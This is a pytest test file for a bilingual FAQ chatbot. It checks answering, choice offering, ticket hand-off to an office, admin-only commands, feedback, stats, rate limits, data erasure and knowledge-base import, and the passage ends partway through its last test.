"""The FAQ as members and the office use it: answers, choices, hand-off, learning, feedback."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import TypeVar
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from bot.cli import main
from bot.demo import DEMO_DIR
from bot.messages import KEEPS_CHOICES
from bot.messages import plain_text as render_text
from handlers.faq.kb_format import load_kb_toml
from handlers.faq.kb_import import KbImportError, import_kb, parse_kb
from handlers.faq.learned import LearningMatcher
from handlers.faq.service import KB_RECHECK_SECONDS, SERVICE_NAME, FaqService
from storage import faq
from storage.db import Database
from storage.faq import EntryFields, FaqEntryRow, FaqQuestion, FaqTicket
from storage.migrate import upgrade
from storage.models import AuditEntry, OutboxMessage
from tests.harness import Harness
from tests.test_office_learn import learn_at_once

DEMO_KB = DEMO_DIR / "faq.toml"
DEMO_TEXT = DEMO_KB.read_text("utf-8")
DEMO_ENTRIES = len(parse_kb(DEMO_TEXT))
T = TypeVar("T")
UNKNOWN = "Kann ich meinen Hund mitbringen?"


async def seed_kb(bot: Harness, text: str = DEMO_TEXT) -> None:
    """The demo knowledge base (or `text`) imported."""
    await bot.import_kb(text)


async def rows(bot: Harness, model: type[T]) -> list[T]:
    async with bot.db.session() as session:
        return list((await session.execute(select(model))).scalars())


@pytest.fixture
async def kb_bot(bot_any: Harness) -> Harness:
    """The bot with the demo knowledge base, on SQLite and on PostgreSQL."""
    await seed_kb(bot_any)
    return bot_any


async def test_typo_question_answered_in_german_and_english(kb_bot: Harness) -> None:
    german = await kb_bot.send("dora", "Wie hoch ist der Mitgliedsbeitarg?")
    assert "Beitragsordnung" in german.text
    assert any(p.startswith("faq:fb:") for p in german.buttons)
    english = await kb_bot.send("eric", "how much is the membersihp fee", lang="en")
    assert "fee schedule" in english.text
    assert "Helpful" in english.text or english.button("Helpful")
    logged = await rows(kb_bot, FaqQuestion)
    assert [(q.decision, q.answered_entry_id) for q in logged] == [
        ("answer", "beitrag"),
        ("answer", "beitrag"),
    ]


@pytest.mark.parametrize(
    ("lang", "question", "said"),
    [
        ("de", "Wer kann bei euch Mitglied werden?", "Kommunen können Mitglied werden"),
        ("en", "Who can become a member?", "municipalities can become members"),
    ],
)
async def test_who_may_join_is_answered_by_the_membership_entry(
    kb_bot: Harness, lang: str, question: str, said: str
) -> None:
    # "wer"/"who" is the word partner requests begin with: it must not win over membership
    answer = await kb_bot.send("dora", question, lang=lang)
    assert said in answer.text, answer.text


async def test_a_question_in_the_other_language_is_answered_in_it(kb_bot: Harness) -> None:
    # Dora chose German; she asks in English and reads the answer, its buttons and what
    # follows from them in English. Her setting stays German.
    english = await kb_bot.send("dora", "How much is the membership fee for us per year?")
    assert "fee schedule" in english.text and "Beitragsordnung" not in english.text
    assert english.button("Helpful")
    unhelpful = await kb_bot.press("dora", english.button("Not helpful"))
    assert "office" in unhelpful.text
    # A German question with an English word stays German.
    german = await kb_bot.send("dora", "Wie hoch ist der Mitgliedsbeitrag für ein Start-up?")
    assert "Beitragsordnung" in german.text
    # Commands answer in her setting.
    assert "Fragen schreiben Sie mir einfach als Text" in (await kb_bot.send("dora", "/help")).text


async def test_a_short_question_in_the_other_language_is_answered_in_it(kb_bot: Harness) -> None:
    # "was" and "will" are English and German words alike: the rest of the message decides.
    german = await kb_bot.send("erin", "Kostet die Exkursion was?", lang="en")
    assert "Exkursionen" in german.text and german.button("Hilfreich"), german.text
    english = await kb_bot.send("dora", "Will the excursion cost money?")
    assert "excursions" in english.text and english.button("Helpful"), english.text
    # A message that is neither keeps the member's language.
    neither = await kb_bot.send("erin", "Exkursion?", lang="en")
    assert "excursions" in neither.text and neither.button("Helpful"), neither.text


async def test_none_of_these_passes_the_question_on_without_doubting_it(kb_bot: Harness) -> None:
    offered = await kb_bot.send("fritz", "Kosten")
    passed = await kb_bot.press(
        "fritz", next(p for p in offered.buttons if p.startswith("faq:ho:"))
    )
    # The member said none of the choices fit; the bot does not answer as if it had doubts.
    assert "weitergegeben (Ticket #1)" in passed.text
    assert "keine sichere Antwort" not in passed.text


async def test_choices_offered_and_pressing_one_answers(kb_bot: Harness) -> None:
    offered = await kb_bot.send("fritz", "Kosten")
    assert "Meinten Sie" in offered.text
    choices = [p for p in offered.buttons if p.startswith("faq:c:")]
    assert 2 <= len(choices) <= 3
    assert any(p.startswith("faq:ho:") for p in offered.buttons)
    picked = await kb_bot.press("fritz", offered.button("Exkursionen"))
    assert "Warteliste" in picked.text
    assert "👍" in picked.replies[0].buttons[0][0].label
    question = (await rows(kb_bot, FaqQuestion))[0]
    assert question.decision == "choices"
    assert question.answered_entry_id == "exkursionen"
    # Someone else's button, or a made-up one, answers nothing.
    assert "nicht mehr gültig" in (await kb_bot.press("gina", choices[0])).text
    assert "nicht mehr gültig" in (await kb_bot.press("fritz", "faq:c:1:7")).text
    assert "nicht mehr gültig" in (await kb_bot.press("fritz", "faq:c:x")).text


async def test_the_admins_hear_of_a_new_question_in_their_chat(kb_bot: Harness) -> None:
    await kb_bot.send("admin", "/language en")  # an admin who has written to the bot
    await kb_bot.onboard("hanna", org="Stadt Goslar")
    asked = await kb_bot.send("hanna", UNKNOWN)
    assert "#1" in asked.text
    admin = await kb_bot.member("admin")
    assert admin is not None
    (alert,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    assert alert.member_id == admin.id
    text = str(alert.payload["text"])
    assert "New question for the office (ticket #1, Stadt Goslar)" in text, text
    assert UNKNOWN in text and "/answer 1" in text
    assert "Refers to" not in text  # a question of its own
    own = await kb_bot.send("admin", "Can my horse come along to the stable on the trip?")
    assert "#2" in own.text, own.text  # the admin's own question: a ticket, no alert to self
    alerts = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    assert len(alerts) == 1
    # one who asks before registering is named by the name their platform gives, not "–"
    await kb_bot.send("nina", UNKNOWN)
    alerts = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    assert "(ticket #3, nina)" in str(alerts[-1].payload["text"]), alerts[-1].payload["text"]


async def test_the_office_reads_which_language_to_answer_in(kb_bot: Harness) -> None:
    await kb_bot.send("admin", "/sprache de")
    await kb_bot.onboard("eric", lang="en", org="Harz Metals Ltd")
    question = "Can I bring my dog along to the excursion?"
    assert "#1" in (await kb_bot.send("eric", question)).text
    (alert,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    text = str(alert.payload["text"])
    assert "(Ticket #1, Harz Metals Ltd), auf Englisch gestellt" in text, text
    assert "Bitte auf Englisch antworten: /antwort 1" in text, text
    assert "das Mitglied bekommt dessen Antwort auf Englisch" in text
    assert "#1" in text and "auf Englisch gestellt" in (await kb_bot.send("admin", "/inbox")).text
    preview = await kb_bot.press("admin", "fl:1:exkursionen")
    assert "Das Mitglied bekommt diese Antwort auf Englisch" in preview.text, preview.text
    await kb_bot.send("admin", "/language en")
    assert "asked in English" in (await kb_bot.send("admin", "/inbox")).text
    # a German question reads as German
    assert "#2" in (await kb_bot.send("hanna", UNKNOWN)).text
    alerts = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    assert "), asked in German:" in str(alerts[-1].payload["text"])


async def test_the_office_alert_offers_the_likely_entries_with_a_preview(kb_bot: Harness) -> None:
    await kb_bot.send("admin", "/language de")
    question = "Kann unser Azubi bei der Grubenfahrt mit?"
    assert "#1" in (await kb_bot.send("hanna", question)).text
    (alert,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    assert "Passt einer dieser Einträge?" in str(alert.payload["text"])
    offered = [p for row in alert.payload["buttons"] for _label, p in row]
    assert "fl:1:nachwuchs" in offered
    # /inbox names them too
    listed = (await kb_bot.send("admin", "/inbox")).text  # by its question, not its id
    assert "Passt vielleicht: „Was bietet das Netzwerk für junge Fachkräfte?“" in listed
    assert "nachwuchs" not in listed
    # a tap shows what the member would get; nothing is sent yet
    preview = await kb_bot.press("admin", "fl:1:nachwuchs")
    assert (
        "Ticket #1 mit „Was bietet das Netzwerk für junge Fachkräfte?“ beantworten" in preview.text
    )
    assert "nachwuchs" not in preview.text
    assert "Young Professionals" in preview.text, preview.text
    assert (
        "nichts gesendet und nichts gelernt"
        in (await kb_bot.press("admin", preview.button("Abbrechen"))).text
    )
    preview = await kb_bot.press("admin", "fl:1:nachwuchs")
    (ticket,) = await rows(kb_bot, FaqTicket)
    assert ticket.status == "open"
    # not for a member who is no admin
    refused = await kb_bot.press("hanna", "fl:1:nachwuchs:go")
    assert "Formulierung" not in refused.text
    sent = await kb_bot.press("admin", preview.button("Senden und lernen"))
    assert "Formulierung von „Was bietet das Netzwerk für junge Fachkräfte?“" in sent.text
    (ticket,) = await rows(kb_bot, FaqTicket)
    assert ticket.status != "open" and ticket.learned_entry_id == "nachwuchs"
    assert "schon gelernt" in (await kb_bot.press("admin", "fl:1:nachwuchs")).text
    assert "nicht mehr gültig" in (await kb_bot.press("admin", "fl:x")).text


async def test_choices_the_member_turned_down_are_not_offered_to_the_office(
    kb_bot: Harness,
) -> None:
    offered = await kb_bot.send("lena", "Kosten")
    shown = [p for p in offered.buttons if p.startswith("faq:c:")]
    assert shown, offered.text
    (question,) = await rows(kb_bot, FaqQuestion)
    await kb_bot.press("lena", next(p for p in offered.buttons if p.startswith("faq:ho:")))
    inbox = await kb_bot.send("admin", "/inbox")
    assert "#1" in inbox.text
    likely = [line for line in inbox.text.splitlines() if "Passt vielleicht" in line]
    assert not any(entry in line for line in likely for entry in question.entry_ids), likely


async def test_the_office_is_not_offered_entries_that_share_only_a_word_about_something_else(
    kb_bot: Harness,
) -> None:
    """A cat's or a horse's trip shares only "Exkursion" with the entries; that is no reason
    to offer one to the office (it had offered the excursions entry, and after the member
    turned that down the young professionals', whose answer mentions their excursions)."""
    await kb_bot.send("admin", "/language de")

    async def offered_to_office() -> list[str]:
        alerts = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
        return [p for row in alerts[-1].payload.get("buttons") or () for _label, p in row]

    assert "#1" in (await kb_bot.send("hanna", "Darf meine Katze zur Exkursion mitkommen?")).text
    assert not [p for p in await offered_to_office() if p.startswith("fl:")]
    shown = await kb_bot.send("lena", "Kann mein Pferd mit zur Exkursion?")
    await kb_bot.press("lena", next(p for p in shown.buttons if p.startswith("faq:ho:")))
    assert not [p for p in await offered_to_office() if p.startswith("fl:")]
    # a question about the excursion itself still gets it suggested
    assert "#3" in (await kb_bot.send("hanna", "Nimmt die Exkursion auch Praktikanten mit?")).text
    assert "fl:3:exkursionen" in await offered_to_office()


async def test_unknown_question_handed_off_then_answered_through_the_outbox(
    bot_any: Harness,
) -> None:
    await seed_kb(bot_any)
    asked = await bot_any.send("hanna", UNKNOWN)
    assert "geschäftsstelle" in asked.text and "#1" in asked.text
    (ticket,) = await rows(bot_any, FaqTicket)
    assert ticket.text == UNKNOWN and ticket.status == "open"
    inbox = await bot_any.send("admin", "/inbox")
    assert "#1" in inbox.text and "Hund" in inbox.text
    berlin = datetime.now(ZoneInfo("Europe/Berlin"))  # shown in the network's time zone
    shown = {(berlin + timedelta(minutes=m)).strftime("%d.%m.%Y, %H:") for m in (-1, 0, 1)}
    assert any(when in inbox.text for when in shown)
    sent = await bot_any.send("admin", "/answer 1 Hunde bitte zu Hause lassen <3")
    assert "#1" in sent.text
    hanna = await bot_any.member("hanna")
    assert hanna is not None
    (message,) = await rows(bot_any, OutboxMessage)
    assert message.kind == "office_answer" and message.member_id == hanna.id
    assert message.status == "pending" and message.chat_id == "chat-hanna"
    text = str(message.payload["text"])
    assert "Hunde bitte zu Hause lassen &lt;3" in text and "#1" in text
    (ticket,) = await rows(bot_any, FaqTicket)
    assert ticket.status == "answered"
    assert "Keine offenen Fragen" in (await bot_any.send("admin", "/inbox")).text
    assert "kein Ticket #99" in (await bot_any.send("admin", "/answer 99 Hallo")).text
    # the audit log says what came of each admin command, not only that it was typed
    entries = [e for e in await rows(bot_any, AuditEntry) if e.action == "command:answer"]
    assert [e.detail.split(" → ")[0] for e in entries] == [
        "1 Hunde bitte zu Hause lassen <3",
        "99 Hallo",
    ]
    assert " → " not in entries[0].detail and "kein Ticket #99" in entries[1].detail
    assert [e.allowed for e in entries] == [True, False]  # the refused one was not done


async def test_learn_makes_the_same_question_answered_next_time(kb_bot: Harness) -> None:
    question = "Wo kann ich beim Tagungshotel mein Elektroauto laden?"
    first = await kb_bot.send("ida", question)
    assert "#1" in first.text
    learnt = await learn_at_once(kb_bot, "/learn 1 symposium")
    assert "Formulierung von „Worum geht es beim jährlichen Symposium?“" in learnt.text
    again = await kb_bot.send("ida", question)
    assert "Jahrestagung" in again.text
    assert "schon gelernt" in (await kb_bot.send("admin", "/learn 1 symposium")).text
    # Nothing in the knowledge base is about bicycles: a second ticket, to learn into no entry.
    bicycle = await kb_bot.send("jan", "Kann ich mein Fahrrad in der Tiefgarage abstellen?")
    assert "#2" in bicycle.text
    assert "keinen Eintrag" in (await kb_bot.send("admin", "/learn 2 nosuchentry")).text


async def test_feedback_is_stored_and_thumbs_down_offers_the_office(kb_bot: Harness) -> None:
    await kb_bot.send("admin", "/language de")  # an admin who hears of new questions
    answer = await kb_bot.send("karl", "Wie bestelle ich die Nachrichten ab?")
    up, down = answer.replies[0].buttons[0]
    assert "Danke" in (await kb_bot.press("karl", up.payload)).text
    (question,) = await rows(kb_bot, FaqQuestion)
    assert question.feedback is True
    sorry = await kb_bot.press("karl", down.payload)
    assert "geschäftsstelle" in sorry.text
    # "no, thanks" is an answer too: nothing is passed on
    assert "ich gebe nichts weiter" in (await kb_bot.press("karl", sorry.button("Nein"))).text
    assert not await rows(kb_bot, FaqTicket)
    handed = await kb_bot.press("karl", sorry.button("Geschäftsstelle"))
    assert "#1" in handed.text
    again = await kb_bot.press("karl", sorry.button("Geschäftsstelle"))
    assert "schon bei der" in again.text
    (question,) = await rows(kb_bot, FaqQuestion)
    assert question.feedback is False and question.ticket_id == 1
    assert len(await rows(kb_bot, FaqTicket)) == 1
    inbox = await kb_bot.send("admin", "/inbox")
    assert (
        "Nachrichten ab?" in inbox.text
        and "„Wie bekomme ich die Neuigkeiten des Clusters?“ fand das Mitglied nicht" in inbox.text
    )
    # the entry the member found wanting is not offered to the office to answer with
    assert "Neuigkeiten des Clusters?“ ·" not in inbox.text
    assert "Passt vielleicht: „Wie bekomme ich die Neuigkeiten" not in inbox.text
    (alert,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    offered = [p for row in alert.payload.get("buttons", []) for _label, p in row]
    assert "fl:1:newsletter" not in offered


async def test_stats_count_questions_answers_choices_hand_offs_and_feedback(
    kb_bot: Harness,
) -> None:
    answered = await kb_bot.send("lena", "Wie hoch ist der Mitgliedsbeitrag?")
    await kb_bot.press("lena", answered.button("Hilfreich"))
    offered = await kb_bot.send("lena", "Kosten")
    await kb_bot.press("lena", offered.button("Exkursionen"))
    await kb_bot.send("lena", UNKNOWN)
    stats = await kb_bot.send("admin", "/stats")
    text = stats.text
    assert f"FAQ ({DEMO_ENTRIES} Einträge)" in text
    assert "Fragen gestellt: 3" in text and "direkt beantwortet: 1" in text
    assert "Auswahl angeboten: 1 (davon gewählt: 1)" in text
    assert "an die Geschäftsstelle: 1 (offen: 1)" in text
    assert "👍 1 · 👎 0" in text


async def test_admin_commands_are_refused_for_members(kb_bot: Harness) -> None:
    await kb_bot.onboard("mia")  # German chosen: the refusals are in German, whatever the name
    for command in (
        "/inbox",
        "/answer 1 Hallo",
        "/learn 1 beitrag",
        "/faq_add",
        "/faq_edit beitrag ade Kostenlos!",
        "/faq_remove beitrag",
        "/stats",
    ):
        assert "nur Admins" in (await kb_bot.send("mia", command)).text, command
    assert "nur Admins" in (await kb_bot.press("mia", "faqa:rm:beitrag")).text
    async with kb_bot.db.session() as session:
        entry = await faq.get_entry(session, "beitrag")
        refused = (
            await session.execute(select(func.count()).where(AuditEntry.allowed.is_(False)))
        ).scalar_one()
    assert entry is not None and "Kostenlos" not in entry.answer_de
    assert refused == 8
    member_help = await kb_bot.send("mia", "/help")
    assert "/fragen " in member_help.text and "/inbox" not in member_help.text  # in German


async def test_a_demoted_admin_leaves_the_guided_conversation(kb_bot: Harness) -> None:
    await kb_bot.send("uwe", "/fragen")
    uwe = await kb_bot.member("uwe")
    assert uwe is not None
    await kb_bot.send("admin", f"/promote {uwe.id}")
    assert "Kennung" in (await kb_bot.send("uwe", "/faq_add")).text
    await kb_bot.send("admin", f"/demote {uwe.id}")
    assert "nur Admins" in (await kb_bot.send("uwe", "hunde")).text
    assert "Beitragsordnung" in (await kb_bot.send("uwe", "Was kostet die Mitgliedschaft?")).text


async def test_admin_adds_edits_and_removes_entries_in_chat(kb_bot: Harness) -> None:
    question = "Gibt es bei euch Parkplätze für Besucher?"
    assert "Besucherparkplätze" not in (await kb_bot.send("nora", question)).text
    await kb_bot.send("admin", "/faq_add")
    assert "schon vergeben" in (await kb_bot.send("admin", "beitrag")).text
    assert "taugt nicht" in (await kb_bot.send("admin", "Park Platz!")).text
    await kb_bot.send("admin", "parken")
    await kb_bot.send("admin", "Gibt es Parkplätze für Besucher?; Wo kann ich parken?")
    await kb_bot.send("admin", "Vor dem Haus gibt es Besucherparkplätze.")
    await kb_bot.send("admin", "-")
    await kb_bot.send("admin", "-")
    done = await kb_bot.send("admin", "Parkplatz; parking")
    assert "Eintrag „Gibt es Parkplätze für Besucher?“ ist angelegt" in done.text
    assert "Besucherparkplätze" in (await kb_bot.send("nora", question)).text
    # English member, German-only entry: the German answer with a note.
    english = await kb_bot.send("otto", "Where can I park my car?", lang="en")
    assert "Besucherparkplätze" in english.text and "only available in German" in english.text
    edited = await kb_bot.send(
        "admin", "/faq_edit parken aen There are visitor car parks in front of the house."
    )
    assert "Gespeichert" in edited.text
    assert "visitor car parks" in (await kb_bot.send("otto", "Where can I park my car?")).text
    # Guided edit through the field buttons.
    shown = await kb_bot.send("admin", "/faq_edit parken")
    await kb_bot.press("admin", shown.button("Antwort DE"))
    await kb_bot.send("admin", "Parkplätze gibt es im Hof.")
    assert "im Hof" in (await kb_bot.send("admin", "/faq parken")).text
    bad = await kb_bot.send("admin", "/faq_edit parken qde -")
    assert "braucht mindestens eine Frage" in bad.text  # an entry without any question
    confirm = await kb_bot.send("admin", "/faq_remove parken")
    removed = await kb_bot.press("admin", confirm.button("löschen"))
    assert "Eintrag „Gibt es Parkplätze für Besucher?“ ist gelöscht" in removed.text
    assert "Besucherparkplätze" not in (await kb_bot.send("nora", question)).text
    actions = [e.action for e in await rows(kb_bot, AuditEntry)]
    assert "faq:add" in actions and "faq:edit" in actions and "button:faqa" in actions


async def test_faq_lists_the_topics_and_shows_one(kb_bot: Harness) -> None:
    listing = await kb_bot.send("paul", "/fragen")
    topic = listing.button("Was kostet die Mitgliedschaft im Jahr?")
    assert "beitrag" not in listing.text  # members see titles, never the entry ids
    assert "Beitragsordnung" in (await kb_bot.press("paul", topic)).text
    english = await kb_bot.send("quinn", "/faq", lang="en")
    cost = english.button("What does membership cost per year?")
    assert (
        "beitrag" not in english.text and "annual fee" in (await kb_bot.press("quinn", cost)).text
    )
    admin = await kb_bot.send("admin", "/faq")
    assert "(beitrag)" in admin.text and not admin.buttons  # the admins' handles
    assert "Beitragsordnung" in (await kb_bot.send("paul", "/faq BEITRAG")).text
    assert "keinen Eintrag" in (await kb_bot.send("paul", "/faq nichts")).text


async def test_greetings_huge_and_binary_text_are_handled(kb_bot: Harness) -> None:
    assert "Stellen Sie mir Ihre Frage" in (await kb_bot.send("rita", "Hallo!")).text
    assert "zu lang" in (await kb_bot.send("rita", "Beitrag " * 20_000)).text
    binary = bytes(range(256)).decode("latin-1") * 10
    answer = await kb_bot.send("rita", binary[:3900])
    assert answer.replies and "schiefgegangen" not in answer.text
    noisy = await kb_bot.send("rita", "Beitrag?\x00\u202e " + "🙂" * 1500)
    assert noisy.replies and "schiefgegangen" not in noisy.text
    for ticket in await rows(kb_bot, FaqTicket):
        assert len(ticket.text) <= 2000 and "\x00" not in ticket.text
    # a long story with the question at its end: the office reads both ends
    story = "Wir sind ein kleiner Betrieb aus dem Harz und sortieren seit Jahren Kupfer. " * 45
    await kb_bot.send("rita", story + "Darf ich meinen Hund zur Exkursion mitbringen?")
    ticket = (await rows(kb_bot, FaqTicket))[-1]
    assert ticket.text.startswith("Wir sind ein kleiner Betrieb") and len(ticket.text) <= 2000
    assert ticket.text.endswith("Darf ich meinen Hund zur Exkursion mitbringen?"), ticket.text


async def full(bot: Harness, user: str) -> None:
    """`user` has as many open questions as the office takes: five they asked the office for
    and five the bot handed on by itself (stored as such)."""
    member = await bot.member(user)
    if member is None:
        await bot.send(user, "Hallo")
        member = await bot.member(user)
    assert member is not None
    async with bot.db.session() as session:
        for number in range(10):
            await faq.open_ticket(
                session, member_id=member.id, text=f"Offen {number}", lang="de", asked=number < 5
            )


async def office_pressed(bot: Harness, user: str, text: str, *, lang: str | None = None) -> str:
    """What `user` reads after asking `text` and pressing the button that sends it to the
    office (the bot asks first, as it does once it handed on five by itself); where the member
    asked for five as well, no yes could pass it on: the refusal comes at once."""
    asked = await bot.send(user, text, lang=lang)
    office = [p for p in asked.buttons if p.startswith("faq:ho:")]
    if not office:
        return asked.text
    return (await bot.press(user, office[-1])).text


FIVE_FOR_THE_OFFICE = (
    "Can I borrow an umbrella?",
    "Is there a cash machine nearby?",
    "Where can I park my car?",
    "Do you serve vegan food?",
    "Wann fährt der letzte Bus nach Hause?",
)


async def test_one_member_cannot_flood_the_office_inbox(kb_bot: Harness) -> None:
    # five the bot handed on by itself: it passes no more on unasked (the member's yes would
    # count as their own, test_faq_open_limit)
    for number, question in enumerate(FIVE_FOR_THE_OFFICE, start=1):
        assert f"#{number}" in (await kb_bot.send("vera", question)).text
    sixth = await kb_bot.send("vera", "Gibt es WLAN im Tagungsraum?")
    assert "Soll ich diese auch weitergeben?" in sixth.text, sixth.text
    assert len(await rows(kb_bot, FaqTicket)) == 5
    assert "#6" in (await kb_bot.send("walt", "Gibt es WLAN im Tagungsraum?")).text


async def test_a_refused_question_is_named_and_the_member_told_to_send_it_again(
    kb_bot: Harness,
) -> None:
    await full(kb_bot, "vera")
    wifi = "Gibt es WLAN im Tagungsraum?"
    refused = await office_pressed(kb_bot, "vera", wifi)
    assert f"Zu „{wifi}“" in refused, refused
    assert "schon 5 offene Fragen" in refused and "noch einmal" in refused
    # one question of several: the answered one is not the one asked about, nor refused
    both = await kb_bot.send("vera", f"Wie hoch ist der Mitgliedsbeitrag? {UNKNOWN}")
    assert "Beitragsordnung" in both.text
    # (both limits full: refused at once, no "shall I?" whose yes would be refused)
    assert f"Zu „{UNKNOWN}“" in both.text and "noch einmal" in both.text, both.text
    assert not any(p.startswith("faq:ho:") for p in both.buttons), both.buttons
    # "none of these" under choices, in English (not pointing back to the message before)
    offered = await kb_bot.send("vera", "What are the costs?", lang="en")
    pressed = await kb_bot.press("vera", offered.button("None of these"))
    assert "About “What are the costs?”" in pressed.text, pressed.text
    assert "send me this question again" in pressed.text
    english = await office_pressed(kb_bot, "vera", "Is there a cloakroom for coats?", lang="en")
    assert "About “Is there a cloakroom for coats?”" in english, english
    assert "5 open questions" in english and "send me this question again" in english
    assert len(await rows(kb_bot, FaqTicket)) == 10


async def test_empty_knowledge_base_hands_everything_to_the_office(bot: Harness) -> None:
    assert "#1" in (await bot.send("sam", "Wie hoch ist der Mitgliedsbeitrag?")).text
    assert "noch leer" in (await bot.send("sam", "/faq")).text


async def test_forget_erases_the_members_questions_and_tickets(kb_bot: Harness) -> None:
    await kb_bot.send("tom", UNKNOWN)
    export = await kb_bot.send("tom", "/mydata")
    attachment = export.replies[0].attachment
    assert attachment is not None
    data = json.loads(attachment.content)
    assert data["faq_inbox"][0]["text"] == UNKNOWN and data["faq_questions"]
    confirm = await kb_bot.send("tom", "/forget")
    await kb_bot.press("tom", confirm.button("löschen"))
    assert await rows(kb_bot, FaqTicket) == [] and await rows(kb_bot, FaqQuestion) == []


async def test_index_follows_changes_made_by_another_process(kb_bot: Harness) -> None:
    now = [1000.0]
    service = FaqService(kb_bot.db, clock=lambda: now[0])
    kb_bot.app.services.features[SERVICE_NAME] = service
    before = await service.snapshot()
    now[0] += KB_RECHECK_SECONDS
    assert await service.snapshot() is before  # no rebuild without a change

    async def delete_elsewhere(entry_id: str) -> None:
        other = Database(kb_bot.db.url)
        async with other.session() as session:
            await faq.delete_entry(session, entry_id)
            await faq.bump_revision(session)
        await other.close()

    await delete_elsewhere("beitrag")
    assert await service.snapshot() is before  # the revision is read again after a pause
    now[0] += KB_RECHECK_SECONDS
    after = await service.snapshot()
    assert after is not before and "beitrag" not in after.entries
    await delete_elsewhere("symposium")
    shown = await kb_bot.send("tom", "/fragen symposium")  # views of the KB ask for a fresh one
    assert "keinen Eintrag „symposium“" in shown.text


# ---------------------------------------------------------------- import and evaluation


def test_demo_knowledge_base_is_valid() -> None:
    entries = parse_kb(DEMO_TEXT)
    assert 12 <= len(entries) <= 20
    assert all(e.answer_de and e.answer_en and e.questions_de and e.questions_en for e in entries)


def test_bad_entries_are_reported_with_their_position() -> None:
    good = DEMO_TEXT
    with pytest.raises(KbImportError, match="not valid TOML"):
        parse_kb(good + "\n[[faq]\nid = \n")
    bad = good + '\n[[faq]]\nid = "Bad Id"\nquestion.de = ["x?"]\nanswer.de = "y"\n'
    bad += '\n[[faq]]\nid = "beitrag"\nquestion.de = ["z?"]\nanswer.de = "nur deutsch"\n'
    with pytest.raises(KbImportError) as error:
        parse_kb(bad)
    first, second = error.value.problems
    line = bad.count("\n", 0, bad.index('[[faq]]\nid = "Bad Id"')) + 1
    assert first.startswith(f"entry {DEMO_ENTRIES + 1} (line {line}):") and "lowercase" in first
    beitrag = 1 + [e.id for e in parse_kb(good)].index("beitrag")
    assert second.startswith(f"entry {DEMO_ENTRIES + 2}")
    assert f"already used by entry {beitrag}" in second


def test_cli_import_faq_twice_changes_nothing_and_bad_file_imports_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite+aiosqlite:///{tmp_path}/x.db"\n')
    bad = tmp_path / "bad.toml"
    bad.write_text('[[faq]]\nid = "ok"\nquestion.de = ["a?"]\nanswer.de = "b"\n[[faq]]\nid = 3\n')
    assert main(["import", "faq", str(bad), "--config", str(config)]) == 1
    err = capsys.readouterr().err
    assert "entry 2 (line 5): missing or empty 'id'" in err and "nothing imported" in err
    assert main(["import", "faq", str(DEMO_KB), "--config", str(config)]) == 0
    assert f"{DEMO_ENTRIES} added, 0 updated, 0 unchanged" in capsys.readouterr().out
    assert main(["import", "faq", str(DEMO_KB), "--config", str(config)]) == 0
    assert f"0 added, 0 updated, {DEMO_ENTRIES} unchanged" in capsys.readouterr().out
    assert main(["import", "faq", str(tmp_path / "missing.toml"), "--config", str(config)]) == 1


async def test_import_twice_keeps_the_revision(db_url: str) -> None:
    db = Database(db_url)
    await upgrade(db)
    entries = parse_kb(DEMO_TEXT)
    revisions = []
    for _ in range(2):
        async with db.session() as session:
            await import_kb(session, entries)
        async with db.session() as session:
            revisions.append(await faq.kb_revision(session))
    async with db.session() as session:
        count = (await session.execute(select(func.count()).select_from(FaqEntryRow))).scalar_one()
        changed = EntryFields(**{**entries[0].__dict__, "tags": ["neu"]})
        assert (await import_kb(session, [changed])).updated == 1
    await db.close()
    assert count == DEMO_ENTRIES and revisions[0] == revisions[1] == 1


def test_cli_faq_eval_prints_the_metrics(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    questions = tmp_path / "q.jsonl"
    lines = [
        {"text": "Wie hoch ist der Mitgliedsbeitarg?", "lang": "de", "expect": "beitrag"},
        {"text": "Wann fährt der letzte Bus nach Hause?", "lang": "de", "expect": None},
    ]
    questions.write_text("\n".join(json.dumps(line) for line in lines) + "\n")
    args = ["faq", "eval", "--kb", str(DEMO_KB), "--questions", str(questions)]
    assert main([*args, "--json"]) == 0
    metrics = json.loads(capsys.readouterr().out)
    assert metrics["n"] == 2 and metrics["accuracy"] == 1.0 and metrics["oos_abstain"] == 1.0
    assert metrics["oos_handoff"] == 1.0  # the bus question goes to the office, no choices
    assert set(metrics["baseline"]) >= {"accuracy", "wrong_rate", "helpful"}
    assert main(args) == 0
    assert "accuracy" in capsys.readouterr().out


def test_console_demo_answers_from_the_demo_knowledge_base() -> None:
    script = "Wie hoch ist der Mitgliedsbeitrag?\n1\nKann ich meinen Hund mitbringen?\n/inbox\n"
    result = subprocess.run(
        [str(Path(sys.executable).parent / "rewimet-bot"), "demo", "--admin"],
        input=script,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "Beitragsordnung" in result.stdout and "[Danke für Ihre Rückmeldung!]" in result.stdout
    assert "Ticket #1" in result.stdout and "Hund" in result.stdout.split("/inbox")[-1]


@pytest.mark.parametrize(
    ("question", "lang", "entry"),
    [
        ("whats the email of the cluster office?", "en", "geschaeftsstelle"),
        ("E-Mail der Geschäftsstelle?", "de", "geschaeftsstelle"),
        ("How do I change my e-mail address?", "en", "profil"),
        # a walkthrough's "where is the office located, whats the adress" had got the entry
        # without any address in it
        ("where is the office located, whats the adress", "en", "geschaeftsstelle"),
        ("Wo ist eure Geschäftsstelle?", "de", "geschaeftsstelle"),
    ],
)
def test_the_demo_office_entry_gives_its_e_mail_address(
    question: str, lang: str, entry: str
) -> None:
    """The demo's office entry says how to e-mail the office and where it is (a
    walkthrough's "whats the email of the cluster office?" had got the news entry: nothing
    said "e-mail" there)."""
    demo = LearningMatcher(load_kb_toml(DEMO_DIR / "faq.toml"))
